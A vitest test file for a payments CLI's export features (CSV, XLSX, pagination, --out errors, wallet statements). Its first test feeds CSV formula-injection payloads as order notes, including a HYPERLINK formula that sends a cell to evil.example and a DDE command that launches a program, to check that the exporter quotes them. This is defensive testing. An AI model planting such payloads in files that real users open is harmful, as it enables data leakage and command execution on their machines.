import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { apiOrder, run, runJson, scratchDir, sandboxForFile } from './harness';
import { PAYCTL, shell } from './shell';
import { at, csvRows, readXlsx, seedStatement as seed, sheetRows } from './exports-workbook';
import type { Row, Sheet } from './exports-workbook';

const dir = scratchDir('payctl-files-');
const sb = sandboxForFile();

const file = (name: string) => join(dir, name);
const requests = async () => (await sb.admin<{ requests: number }>('GET', '/stats')).requests;

const seedStatement = (body: Parameters<typeof seed>[1]) => seed(sb, body);

describe('CSV as spreadsheets read it', () => {
  it('notes round-trip split on , ; or tab; a cell a spreadsheet would run is guarded, a number is not', async () => {
    // Notes a spreadsheet reads back as they were sent: separators, a newline, signed numbers, any script.
    const asSent = {
      semi: 'a;b',
      tab: 'a\tb',
      nl: 'line one\nline two',
      neg: '-12',
      phone: '+919876543210',
      name: 'Ñandú Šťastný 名前 ₹',
    };
    // Notes a spreadsheet would run as formulas, real-looking payloads too: they read back behind a quote.
    const formulas = [
      '=1+2',
      '=HYPERLINK("http://evil.example/?"&A1,"Refund status")',
      '+1-800-FAKE',
      '-2+3',
      '@SUM(1,2)',
      "=cmd|' /C calc'!A0",
    ];
    const guarded = Object.fromEntries(formulas.map((f, i) => [`formula${i + 1}`, f]));
    const notes = { ...asSent, ...guarded };
    const created = await apiOrder(sb, { amount: 5000, receipt: 'csv-roundtrip', notes });
    const fields = ['id', ...Object.keys(notes).map((k) => `notes.${k}`)];
    const res = await run(['orders', 'list', '--receipt', 'csv-roundtrip', '-o', 'csv', '--fields', fields.join(',')], {
      env: sb.env,
    });
    expect(res.code, res.stderr).toBe(0);
    const cells = (sent: Record<string, string>, quote: string) =>
      Object.fromEntries(Object.entries(sent).map(([k, note]) => [`notes.${k}`, quote + note]));
    // LibreOffice's default import splits on comma, semicolon and tab.
    for (const delimiter of [',', [',', ';', '\t']]) {
      const [row] = parse(res.stdout, { columns: true, delimiter }) as Row[];
      expect(row).toEqual({ id: created.id, ...cells(asSent, ''), ...cells(guarded, "'") });
    }
  });

  it('an export with no rows still has its header, in every format', async () => {
    const base = ['orders', 'list', '--receipt', 'no-such-receipt'];
    expect((await run([...base, '--out', file('empty.csv')], { env: sb.env })).code).toBe(0);
    expect(readFileSync(file('empty.csv'), 'utf8')).toMatch(/^id,status,amount,amount_display,.*created_at_local\n$/);
    const c = await seedStatement({ wallet_entry_times: [at('2024-01-01T10:00:00+05:30')] });
    const st = await run(
      ['wallet', 'statement', c, '--input', '-', '--from', '2025-01-01', '--to', '2025-01-31', '-o', 'csv'],
      { env: sb.env, input: '' },
    );
    expect(st.stdout).toMatch(/^customer_id,created_at,created_at_iso,created_at_local,type,/);
    expect(st.stdout.trim().split('\n')).toHaveLength(1);
    expect((await run([...base, '--out', file('empty.xlsx')], { env: sb.env })).code).toBe(0);
    expect(sheetRows(readXlsx(file('empty.xlsx')).Orders as Sheet)).toEqual([]);
  });
});

describe('--out', () => {
  it('the format follows the extension; a contradicting -o is exit 2 with nothing sent', async () => {
    const base = ['orders', 'list', '--receipt', 'csv-roundtrip'];
    for (const [name, check] of [
      ['x.csv', (t: string) => expect(t).toMatch(/^id,status,/)],
      ['x.json', (t: string) => expect(JSON.parse(t)).toHaveLength(1)],
      ['x.ndjson', (t: string) => expect(JSON.parse(t.trim()).receipt).toBe('csv-roundtrip')],
      ['x.jsonl', (t: string) => expect(t.trim().split('\n')).toHaveLength(1)],
      ['x.xlsx', (t: string) => expect(t.slice(0, 2)).toBe('PK')],
    ] as const) {
      const res = await run([...base, '--out', file(name)], { env: { ...sb.env, PAYCTL_OUTPUT: 'json' } });
      expect(res.code, res.stderr).toBe(0);
      check(readFileSync(file(name), 'latin1'));
    }
    const before = await requests();
    const bad = await run([...base, '-o', 'csv', '--out', file('bad.xlsx')], { env: sb.env });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--out .*bad\.xlsx is xlsx by its extension but -o says csv/);
    expect(await requests()).toBe(before);
    expect(existsSync(file('bad.xlsx'))).toBe(false);
  });

  it('walks every page (no silent first page); a list that stopped at a full page says so; --limit stops early', async () => {
    await sb.admin('POST', '/seed', { orders: 130 });
    const all = await runJson<unknown[]>(sb, ['orders', 'list', '--all']);
    const res = await run(['orders', 'list', '--out', file('every.csv')], { env: sb.env });
    expect(res.code, res.stderr).toBe(0);
    expect(csvRows(file('every.csv'))).toHaveLength(all.data!.length);
    expect(res.stderr).toContain(`wrote ${all.data!.length} rows`);
    // A pipe gets every row too (the program reading it cannot see a hint); --count asks for one page.
    const piped = await runJson<unknown[]>(sb, ['orders', 'list']);
    expect(piped.data).toHaveLength(all.data!.length);
    const page = await runJson<unknown[]>(sb, ['orders', 'list', '--count', '10']);
    expect(page.data).toHaveLength(10);
    expect(page.stderr).toMatch(
      /one page of 10 orders shown; more may exist: --all for every page, --skip 10 for the next/,
    );
    const limited = await run(['orders', 'list', '--out', file('limited.csv'), '--limit', '15'], { env: sb.env });
    expect(csvRows(file('limited.csv'))).toHaveLength(15);
    expect(limited.stderr).toMatch(/stopped at --limit 15: more orders may exist/);
    const few = await runJson(sb, ['orders', 'list', '--receipt', 'csv-roundtrip']);
    expect(few.stderr).not.toMatch(/more may exist/);
  });

  it('--status walks pages until it has the rows asked for', async () => {
    await sb.admin('POST', '/seed', { orders: 60 });
    const every = await runJson<Array<{ id: string; status: string }>>(sb, ['payments', 'list', '--all']);
    const authorized = every.data!.filter((p) => p.status === 'authorized');
    expect(every.data!.slice(0, 10).filter((p) => p.status === 'authorized').length).toBeLessThan(10);
    const res = await runJson<Array<{ id: string }>>(sb, [
      'payments',
      'list',
      '--status',
      'authorized',
      '--count',
      '10',
    ]);
    expect(res.code, res.stderr).toBe(0);
    expect(res.data!.map((p) => p.id)).toEqual(authorized.slice(0, 10).map((p) => p.id));
    expect(res.stderr).toMatch(/the first 10 authorized payments found shown; more may exist/);
    const piped = await runJson<Array<{ id: string }>>(sb, ['payments', 'list', '--status', 'authorized']);
    expect(piped.data!.map((p) => p.id)).toEqual(authorized.map((p) => p.id));
    const out = await run(['payments', 'list', '--status', 'authorized', '--out', file('auth.csv')], { env: sb.env });
    expect(out.code, out.stderr).toBe(0);
    expect(csvRows(file('auth.csv')).map((r) => r.id)).toEqual(authorized.map((p) => p.id));
  });

  it('fails naming the path given, with nothing left behind: missing directory, unwritable directory, a directory, a write error mid-export', async () => {
    const missing = await run(['orders', 'list', '--out', join(dir, 'nope', 'x.csv')], { env: sb.env });
    expect(missing.code).toBe(2);
    expect(missing.stderr.split('\n')[0]).toBe(
      `payctl: --out ${join(dir, 'nope', 'x.csv')}: the directory ${join(dir, 'nope')} does not exist`,
    );
    const isDir = join(dir, 'adir.csv');
    mkdirSync(isDir);
    expect((await run(['orders', 'list', '--out', isDir], { env: sb.env })).stderr).toBe(
      `payctl: --out ${isDir}: is a directory; nothing was sent\n`,
    );
    // As root, /sys refuses new files though access() says writable; otherwise a 0500 directory does.
    const ro = process.getuid?.() === 0 ? '/sys' : mkdtempSync(join(dir, 'ro-'));
    if (ro !== '/sys') spawnSync('chmod', ['500', ro]);
    const denied = await run(['orders', 'list', '--out', join(ro, 'x.csv')], { env: sb.env });
    expect(denied.code).not.toBe(0);
    expect(denied.stderr).toMatch(new RegExp(`--out ${join(ro, 'x.csv')}: .*(permission denied|not writable)`));
    expect(denied.stderr).not.toContain('partial');
    // A file size limit (ulimit -f) makes the write fail part way through: EFBIG (Node ignores SIGXFSZ).
    const sub = mkdtempSync(join(dir, 'efbig-'));
    const c = await seedStatement({ wallet_entries: 3000 });
    for (const ext of ['csv', 'xlsx']) {
      const target = join(sub, `big.${ext}`);
      const res = await shell(`ulimit -f 16; exec ${PAYCTL} wallet statement ${c} --out "${target}"`, sb.env);
      expect(res.code, res.stderr).toBe(1);
      expect(res.stderr).toContain(
        `cannot write --out ${target}: file too large for this file system or limit (EFBIG); no file was written`,
      );
      expect(readdirSync(sub)).toEqual([]);
    }
  });

  it('the summary names the zone, and says when it is the machine default', async () => {
    const env = { ...sb.env, PAYCTL_TZ: undefined, TZ: 'UTC' };
    const res = await run(['orders', 'list', '--receipt', 'csv-roundtrip', '--out', file('zone.csv')], { env });
    expect(res.stderr).toMatch(/zone UTC \(this machine's default: pass --tz to choose\)/);
  });
});

describe('statements', () => {
  it('--oldest-first: ledger order holds row by row, also for entries in the same second', async () => {
    const second = at('2024-08-01T10:00:00+05:30');
    const c = await seedStatement({
      wallet_entry_times: Array.from({ length: 450 }, (_, i) => second + Math.floor(i / 150)),
    });
    const res = await run(['wallet', 'statement', c, '--oldest-first', '--out', file('ledger.csv')], { env: sb.env });
    expect(res.code, res.stderr).toBe(0);
    const rows = csvRows(file('ledger.csv')).map((r) => ({
      credit: Number(r.credit),
      debit: Number(r.debit),
      balance: Number(r.balance),
    }));
    expect(rows).toHaveLength(450);
    expect(rows[0]!.balance).toBe(rows[0]!.credit - rows[0]!.debit);
    for (let i = 1; i < rows.length; i++)
      expect(rows[i]!.balance, `row ${i}`).toBe(rows[i - 1]!.balance + rows[i]!.credit - rows[i]!.debit);
    expect(res.stderr).toMatch(
      new RegExp(`${c}: 450 rows, opening ₹0\\.00, credits ₹[\\d,.]+, debits ₹[\\d,.]+, closing ₹[\\d,.]+`),
    );
  });

  it('several customers with an unknown and a wallet-less one: named, refused; --skip-missing exports the rest and lists them', async () => {
    const a = await seedStatement({ wallet_entries: 120 });
    const b = await seedStatement({ wallet_entries: 5 });
    const walletless = (
      await sb.admin<{ id: string }>('POST', '/customers', { contact: '+14155550100', name: 'No Wallet' })
    ).id;
    const unknown = 'cust_00000000000000';
    const input = join(dir, 'customers.txt');
    writeFileSync(input, `customer_id\n${a}\n${unknown}\n${walletless}\n${b}\n`);
    const out = file('many.csv');
    const refused = await run(['wallet', 'statement', '--input', input, '--out', out], { env: sb.env });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      `no statement for ${unknown} (unknown customer), ${walletless} (no wallet): nothing was written; --skip-missing`,
    );
    expect(existsSync(out)).toBe(false);
    const res = await run(['wallet', 'statement', '--input', input, '--skip-missing', '--out', out], { env: sb.env });
    expect(res.code, res.stderr).toBe(0);
    const rows = csvRows(out);
    expect(rows).toHaveLength(125);
    expect(new Set(rows.map((r) => r.customer_id))).toEqual(new Set([a, b]));
    expect(res.stderr).toMatch(
      new RegExp(
        `skipped 2 customer\\(s\\) with no statement: ${unknown} \\(unknown customer\\), ${walletless} \\(no wallet\\)$`,
        'm',
      ),
    );
    const xlsx = await run(['wallet', 'statement', '--input', input, '--skip-missing', '--out', file('many.xlsx')], {
      env: sb.env,
    });
    expect(xlsx.code).toBe(0);
    const summary = (readXlsx(file('many.xlsx')).Summary as Sheet).rows.map((r) => r.map((x) => x.v));
    expect(summary.find((r) => r[0] === unknown)![1]).toBe('unknown customer');
    expect(summary.find((r) => r[0] === a)![1]).toBe(120);
  });

  it('one customer given by --input still has a customer_id column; --fields refuses a typo before sending', async () => {
    const a = await seedStatement({ wallet_entries: 3 });
    const res = await run(['wallet', 'statement', '--input', '-', '-o', 'csv'], { env: sb.env, input: `${a}\n` });
    expect(res.stdout.split('\n')[0]!.startsWith('customer_id,')).toBe(true);
    const before = await requests();
    const typo = await run(['wallet', 'statement', a, '--fields', 'created_at,balanse', '-o', 'csv'], { env: sb.env });
    expect(typo.code).toBe(2);
    expect(typo.stderr).toMatch(/no column "balanse" \(did you mean balance\?\)/);
    expect(await requests()).toBe(before);
  });
});
